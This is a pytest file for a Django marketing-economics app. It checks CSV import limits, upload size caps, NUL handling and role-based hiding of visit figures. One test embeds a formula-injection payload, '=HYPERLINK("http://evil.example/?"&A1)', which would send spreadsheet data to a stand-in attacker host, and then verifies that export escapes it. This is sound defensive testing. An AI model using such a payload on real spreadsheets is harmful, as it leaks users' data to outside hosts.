"""Economics inputs as an attacker inside the company would try them (docs/SECURITY.md):
the CSV import's size and cell limits, formula cells on export, who reads visits."""

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from slawatch.economics.models import Spend, Visits
from slawatch.leads.models import Lead
from tests.quality import world
from tests.reports.builders import T0, handoff, lead

pytestmark = pytest.mark.django_db
RANGE = {"start": "2026-11-01", "end": "2026-12-01"}
HEADER = "month,source,campaign,category,amount,currency"


@pytest.fixture
def org(cast, django_user_model):
    return world.make_org(cast, django_user_model)


def post_csv(client, body, path="/api/v1/spend/import/"):
    return client.generic("POST", path, body, content_type="text/csv")


@pytest.mark.parametrize("path, row, message", [
    ("/api/v1/spend/import/", f"2026-11,{'w' * 101},,marketing,1.00,USD",
     "row 1: source: Ensure this value has at most 100 characters (it has 101)."),
    ("/api/v1/spend/import/", f"2026-11,web,{'c' * 201},marketing,1.00,USD",
     "row 1: campaign: Ensure this value has at most 200 characters (it has 201)."),
    ("/api/v1/visits/import/", "2026-11,web,9223372036854775808",
     "row 1: visits: Ensure this value is less than or equal to "),  # the column's maximum
])
def test_a_cell_the_database_cannot_hold_is_a_400_and_nothing_is_stored(org, path, row, message):
    """On PostgreSQL these rows were a 500 (value too long, integer out of range); on SQLite
    the over-long text was stored as sent."""
    header = HEADER if "spend" in path else "month,source,visits"
    good = "2026-10,web,,marketing,5.00,USD" if "spend" in path else "2026-10,web,10"
    response = post_csv(world.api(org.marketer_user), f"{header}\n{good}\n{row}\n".encode(),
                        path)
    assert response.status_code == 400, response.content
    [error] = response.json()["errors"]
    assert error.startswith(message.replace("row 1", "row 2")), error
    assert not Spend.objects.exists() and not Visits.objects.exists()


def test_an_import_larger_than_the_upload_limit_is_413_before_it_is_read(org, settings, client):
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 1000
    api = world.api(org.marketer_user)
    body = (HEADER + "\n" + "".join(f"2026-11,web{n},,marketing,1.00,USD\n"
                                    for n in range(100))).encode()
    assert len(body) > 1000
    response = post_csv(api, body)
    assert response.status_code == 413 and "1000 bytes" in response.json()["error"]
    upload = api.post("/api/v1/spend/import/", {"file": SimpleUploadedFile("s.csv", body)},
                         format="multipart")
    assert upload.status_code == 413
    assert not Spend.objects.exists()
    client.force_login(org.marketer_user)
    admin = client.post("/admin/economics/spend/import/", {"file": SimpleUploadedFile("s.csv", body)})
    assert admin.status_code == 400 and "1000 bytes" in admin.content.decode()
    assert not Spend.objects.exists()
    small = (HEADER + "\n" + "".join(f"2026-11,web{n},,marketing,1.00,USD\n"
                                     for n in range(10))).encode()
    assert post_csv(world.api(org.marketer_user), small).status_code == 200  # under the limit


def test_formula_cells_from_an_import_are_escaped_in_the_report_csv(org):
    client = world.api(org.marketer_user)
    evil = '=HYPERLINK("http://evil.example/?"&A1)'
    body = f'{HEADER}\n2026-11,"{evil.replace(chr(34), chr(34) * 2)}",,marketing,9.00,USD\n'
    assert post_csv(client, body.encode()).status_code == 200
    assert Spend.objects.get().source == evil  # stored as typed: escaping is for export
    text = client.get("/api/v1/reports/marketing/", {**RANGE, "format": "csv"}).content.decode()
    assert "'=HYPERLINK" in text and ",=HYPERLINK" not in text and '"=HYPERLINK' not in text


@pytest.fixture
def visited(org):
    handoff(org.rep, status="met", lead_=lead(source="web"))
    Lead.objects.update(created_in_crm_at=T0)
    Visits.objects.create(month="2026-11-01", source="web", visits=5000)
    Visits.objects.create(month="2026-11-01", source="secret-partner", visits=777)
    return org


def test_visits_are_company_figures_a_narrower_scope_does_not_read(visited):
    """A rep (or a user with no role) cannot read visits/ (403), so the marketing report
    must not hand them the same figures, nor the sources they were counted for."""
    for user in (visited.rep_user, visited.manager_user):
        client = world.api(user)
        body = client.get("/api/v1/reports/marketing/", RANGE).json()
        [row] = body["rows"]
        assert (row["key"], row["leads"], row["visits"], row["visit_to_lead"]) == \
            ("web", 1, None, None), user
    assert world.api(visited.rep_user).get("/api/v1/visits/").status_code == 403
    rows = world.api(visited.marketer_user).get("/api/v1/reports/marketing/", RANGE).json()
    assert {r["key"]: r["visits"] for r in rows["rows"]} == {"web": 5000, "secret-partner": 777}


@pytest.mark.parametrize("cell, message", [
    ("a\x00b", "the file contains a NUL character (line 2)"),
    ("x" * 140_000, "a cell is longer than"),
])
def test_a_file_the_csv_reader_or_the_database_refuses_is_a_400(org, cell, message):
    """A NUL was stored on SQLite and a 500 on PostgreSQL; a cell beyond the csv module's
    field limit was a 500 on both."""
    body = f"{HEADER}\n2026-11,{cell},,marketing,1.00,USD\n".encode()
    response = post_csv(world.api(org.marketer_user), body)
    assert response.status_code == 400, response.content[:300]
    assert any(e.startswith(message) for e in response.json()["errors"]), response.json()
    assert not Spend.objects.exists()
